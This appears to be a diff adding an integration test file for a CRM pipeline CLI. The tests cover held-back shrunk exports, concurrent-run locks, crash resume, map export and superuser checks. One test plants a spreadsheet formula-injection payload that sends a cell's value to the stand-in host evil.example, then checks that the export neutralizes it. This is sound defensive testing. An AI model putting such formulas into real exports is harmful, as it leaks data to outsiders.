@@ -1,0 +1,353 @@
+"""Safety of `crm-pipeline run` under careless use (issue 12, issue 11 item 6), through the real CLI.
+
+- an export that comes back empty, with a header no profile knows, or much smaller than the rows it
+  loaded before is held back: its earlier rows stay, the run exits 1 and names the file;
+  ``--accept-shrink FILE`` applies a real shrink;
+- a run whose every file is rejected exits 1 and says so;
+- two runs at once: the second exits 3 naming the holder, the tables equal a single run's; a lock
+  file left by a dead process is taken over;
+- a run resumed after a crash still shows rows, persons and customers;
+- ``export unification-map`` right after ``run RAW`` (no ``--processed``) writes the map;
+- a run on a migrated database opens no superuser session (``log_connections``).
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import psycopg
+import pytest
+from load_support import new_database, run_cli
+
+from crm_pipeline.generate.main import generate
+
+pytestmark = pytest.mark.integration
+
+PEOPLE = 150
+FILE = "sm_customers.csv"
+
+
+@pytest.fixture(scope="module")
+def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    out = tmp_path_factory.mktemp("safety_data")
+    generate(PEOPLE, out, seed=5)
+    return out / "raw"
+
+
+@pytest.fixture
+def raw(generated: Path, tmp_path: Path) -> Path:
+    """A private copy of the generated exports (tests change files in it)."""
+    target = tmp_path / "data" / "raw"
+    shutil.copytree(generated, target)
+    return target
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    path = tmp_path / "home"
+    path.mkdir()
+    return path
+
+
+@pytest.fixture
+def url(pg_server_url: str) -> Iterator[str]:
+    """An empty database of its own."""
+    with new_database(pg_server_url) as database:
+        yield database
+
+
+@pytest.fixture(scope="module")
+def loaded_template(
+    pg_server_url: str, generated: Path, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[str]:
+    """A database after one successful run of the generated exports (made once per module)."""
+    home = tmp_path_factory.mktemp("template_home")
+    with new_database(pg_server_url) as database:
+        done = run_cli(database, home, "run", str(generated), "--processed", str(home / "processed"))
+        assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
+        yield database
+
+
+@pytest.fixture
+def loaded(pg_server_url: str, loaded_template: str) -> Iterator[str]:
+    """A copy of ``loaded_template``: the exports of ``raw`` were loaded once already."""
+    with new_database(pg_server_url, template=loaded_template) as database:
+        yield database
+
+
+def scalar(url: str, query: str, *params: object) -> int:
+    with psycopg.connect(url) as conn:
+        row = conn.execute(query, params).fetchone()
+    assert row is not None
+    return int(row[0])
+
+
+def rows_of(url: str, file: str) -> dict[str, int]:
+    """What the database holds of one input file."""
+    return {
+        table: scalar(url, f"SELECT count(*) FROM {table} WHERE file_name = %s", file)
+        for table in ("source_person_records", "customer_source_map")
+    }
+
+
+def run(url: str, home: Path, raw: Path, *extra: str) -> subprocess.CompletedProcess[str]:
+    return run_cli(url, home, "run", str(raw), *extra, timeout=600)
+
+
+def loaded_rows(url: str) -> dict[str, int]:
+    before = rows_of(url, FILE)
+    assert before["source_person_records"] > 0
+    return before
+
+
+def _write_shrunk(path: Path, keep_share: float) -> int:
+    """Keep the header and the first ``keep_share`` of the data lines; returns the lines kept."""
+    lines = path.read_bytes().splitlines(keepends=True)
+    keep = int((len(lines) - 1) * keep_share)
+    path.write_bytes(b"".join(lines[: 1 + keep]))
+    return keep
+
+
+def test_zero_byte_export_keeps_its_rows_and_exits_1(loaded: str, home: Path, raw: Path) -> None:
+    url = loaded
+    before = loaded_rows(url)
+    customers = scalar(url, "SELECT count(*) FROM customers")
+    (raw / FILE).write_bytes(b"")
+
+    done = run(url, home, raw)
+
+    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
+    out = done.stdout + done.stderr
+    assert FILE in out and "held back" in out
+    assert "succeeded with rejected input" in out
+    assert rows_of(url, FILE) == before
+    assert scalar(url, "SELECT count(*) FROM customers") == customers
+    # the rows of the held-back file were matched with the others: every row still has a customer
+    assert (
+        scalar(
+            url,
+            "SELECT count(*) FROM customer_source_map m LEFT JOIN customers c"
+            " USING (customer_id) WHERE c.customer_id IS NULL",
+        )
+        == 0
+    )
+
+
+def test_header_changed_export_keeps_its_rows_and_exits_1(loaded: str, home: Path, raw: Path) -> None:
+    url = loaded
+    before = loaded_rows(url)
+    (raw / FILE).write_text("Kunde,Telefon\nZoë Stewart,818-861-9175\n", encoding="utf-8")
+
+    done = run(url, home, raw)
+
+    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
+    assert FILE in done.stdout + done.stderr
+    assert rows_of(url, FILE) == before
+
+
+def test_a_shrink_beyond_the_share_is_held_back_until_accepted(loaded: str, home: Path, raw: Path) -> None:
+    url = loaded
+    before = loaded_rows(url)
+    kept = _write_shrunk(raw / FILE, 0.5)
+
+    held = run(url, home, raw)
+    assert held.returncode == 1, held.stdout[-2000:] + held.stderr[-2000:]
+    out = held.stdout + held.stderr
+    assert FILE in out and f"{before['source_person_records']:,}" in out
+    assert rows_of(url, FILE) == before
+
+    accepted = run(url, home, raw, "--accept-shrink", FILE)
+    assert accepted.returncode == 0, accepted.stdout[-2000:] + accepted.stderr[-2000:]
+    after = rows_of(url, FILE)
+    assert 0 < after["source_person_records"] <= kept < before["source_person_records"]
+    assert after["customer_source_map"] == after["source_person_records"]
+
+
+def test_every_file_rejected_exits_1(url: str, home: Path, tmp_path: Path) -> None:
+    raw = tmp_path / "junk"
+    raw.mkdir()
+    (raw / "a.csv").write_text("foo,bar\n1,2\n", encoding="utf-8")
+    (raw / "b.csv").write_bytes(b"")
+
+    done = run(url, home, raw)
+
+    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
+    assert "succeeded with rejected input" in done.stdout
+    assert "rejected input file(s): a.csv, b.csv" in done.stderr.replace("\n", " ")
+
+
+def test_two_runs_at_once_one_exits_3_and_the_tables_equal_one_run(url: str, home: Path, raw: Path) -> None:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("CRM_") and k != "DATABASE_URL"}
+    env.update(DATABASE_URL=url, CRM_HOME=str(home), COLUMNS="200", NO_COLOR="1")
+    cmd = [sys.executable, "-m", "crm_pipeline.cli", "run", str(raw)]
+    procs = [
+        subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        for _ in range(2)
+    ]
+    outs = [p.communicate(timeout=600) for p in procs]
+    codes = sorted(p.returncode for p in procs)
+    assert codes == [0, 3], outs
+    loser = outs[[p.returncode for p in procs].index(3)]
+    assert "lock" in loser[1] and "pid" in loser[1]
+
+    assert scalar(url, "SELECT count(*) FROM pipeline_runs") == 1
+    assert scalar(url, "SELECT count(*) FROM pipeline_stages WHERE status = 'succeeded'") == 4
+    summary = json.loads((raw.parent / "processed" / "run_summary.json").read_text())["summary"]
+    assert scalar(url, "SELECT count(*) FROM source_person_records") == summary["persons"]
+    assert scalar(url, "SELECT count(*) FROM customers") == summary["customers"]
+    assert not (raw.parent / "processed" / ".crm-pipeline.lock").exists()
+
+
+def test_a_lock_file_of_a_dead_process_is_taken_over(url: str, home: Path, raw: Path) -> None:
+    dead = subprocess.Popen([sys.executable, "-c", "pass"])
+    dead.wait()
+    processed = raw.parent / "processed"
+    processed.mkdir()
+    lock = processed / ".crm-pipeline.lock"
+    lock.write_text(
+        json.dumps({"run_id": "crashed", "pid": dead.pid, "host": socket.gethostname(), "since": "x"})
+    )
+
+    done = run(url, home, raw)
+
+    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
+    assert not lock.exists()
+
+
+def test_a_lock_file_of_a_live_process_stops_the_run_with_exit_3(url: str, home: Path, raw: Path) -> None:
+    processed = raw.parent / "processed"
+    processed.mkdir()
+    lock = processed / ".crm-pipeline.lock"
+    holder = {"run_id": "other", "pid": os.getpid(), "host": socket.gethostname(), "since": "now"}
+    lock.write_text(json.dumps(holder))
+
+    done = run(url, home, raw)
+
+    assert done.returncode == 3, done.stdout[-2000:] + done.stderr[-2000:]
+    assert f"pid {os.getpid()}" in done.stderr
+    assert json.loads(lock.read_text()) == holder  # the holder's lock is left alone
+
+
+def test_resumed_run_summary_shows_rows_persons_and_customers(url: str, home: Path, raw: Path) -> None:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("CRM_") and k != "DATABASE_URL"}
+    env.update(DATABASE_URL=url, CRM_HOME=str(home))
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "crm_pipeline.cli", "run", str(raw)],
+        env=env,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    deadline = time.monotonic() + 300
+    try:
+        while time.monotonic() < deadline and proc.poll() is None:
+            try:
+                if scalar(url, "SELECT count(*) FROM pipeline_stages WHERE stage = 'match'"):
+                    break
+            except psycopg.errors.UndefinedTable:
+                pass
+            time.sleep(0.05)
+        assert proc.poll() is None, "the run ended before matching started"
+        os.kill(proc.pid, signal.SIGKILL)
+    finally:
+        proc.wait(timeout=30)
+
+    resumed = run(url, home, raw, "--json")
+    assert resumed.returncode == 0, resumed.stderr[-2000:]
+    result = json.loads(resumed.stdout)
+    assert result["resumed"] is True
+    head = result["summary"]
+    assert head["rows_in"] == scalar(url, "SELECT sum(rows_in) FROM source_files")
+    assert head["persons"] == scalar(url, "SELECT count(*) FROM source_person_records")
+    assert head["customers"] == scalar(url, "SELECT count(*) FROM customers")
+
+
+def test_export_maps_right_after_run_without_processed(loaded: str, home: Path) -> None:
+    """No ``--processed``: the maps come from the database (what the last run loaded), with cells a
+    spreadsheet would run as formulas neutralized."""
+    url = loaded
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    with psycopg.connect(url) as conn:
+        conn.execute(
+            "UPDATE customer_source_map SET record_id = %s"
+            " WHERE uid = (SELECT min(uid) FROM customer_source_map)",
+            (evil,),
+        )
+        conn.execute(
+            "UPDATE source_job_records SET record_id = %s"
+            " WHERE uid = (SELECT min(uid) FROM source_job_records)",
+            ("-2+3",),
+        )
+    out = home / "m.csv"
+    done = run_cli(url, home, "export", "unification-map", "--out", str(out))
+    assert done.returncode == 0, done.stderr[-2000:]
+    with out.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["file", "record_id", "customer_id"]
+    assert len(rows) - 1 == scalar(url, "SELECT count(*) FROM customer_source_map")
+    assert ["'" + evil] == [r[1] for r in rows if evil in r[1]]
+
+    jobs = home / "j.csv"
+    done = run_cli(url, home, "export", "job-map", "--out", str(jobs))
+    assert done.returncode == 0, done.stderr[-2000:]
+    with jobs.open(newline="", encoding="utf-8") as fh:
+        job_rows = list(csv.reader(fh))
+    assert len(job_rows) - 1 == scalar(url, "SELECT count(*) FROM job_source_map")
+    assert "'-2+3" in [r[1] for r in job_rows]
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for r in job_rows + rows for cell in r)
+
+
+# ------------------------------------------------------------------------- no superuser sessions
+
+
+def _server_log(conn: psycopg.Connection[tuple[object, ...]]) -> Path | None:
+    """The server's log file when this test can read it (the embedded server writes PGDATA/log)."""
+    row = conn.execute("SELECT pg_current_logfile()").fetchone()
+    data = conn.execute("SHOW data_directory").fetchone()
+    for candidate in (
+        Path(str(data[0])) / str(row[0]) if row and row[0] and data else None,
+        Path(str(data[0])) / "log" if data else None,
+    ):
+        if candidate is not None and candidate.is_file() and os.access(candidate, os.R_OK):
+            return candidate
+    return None
+
+
+def test_a_run_on_a_migrated_database_opens_no_superuser_session(
+    pg_server_url: str, url: str, home: Path, raw: Path
+) -> None:
+    from crm_pipeline.db import migrate
+
+    migrate(url)
+    database = url.rsplit("/", 1)[-1].split("?")[0]
+    with psycopg.connect(pg_server_url, autocommit=True) as conn:
+        log_file = _server_log(conn)
+        if log_file is None:
+            pytest.skip("the server's log file is not readable from here")
+        conn.execute("ALTER SYSTEM SET log_connections = on")
+        conn.execute("SELECT pg_reload_conf()")
+    time.sleep(0.5)
+    offset = log_file.stat().st_size
+    try:
+        done = run(url, home, raw)
+    finally:
+        with psycopg.connect(pg_server_url, autocommit=True) as conn:
+            conn.execute("ALTER SYSTEM RESET log_connections")
+            conn.execute("SELECT pg_reload_conf()")
+    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
+    with log_file.open("rb") as fh:
+        fh.seek(offset)
+        lines = [ln for ln in fh.read().decode(errors="replace").splitlines() if f"database={database}" in ln]
+    authorized = [ln for ln in lines if "connection authorized" in ln]
+    assert any("user=crm_loader" in ln for ln in authorized), lines[:20]
+    superuser = [ln for ln in authorized if "user=crm_loader" not in ln]
+    assert superuser == []
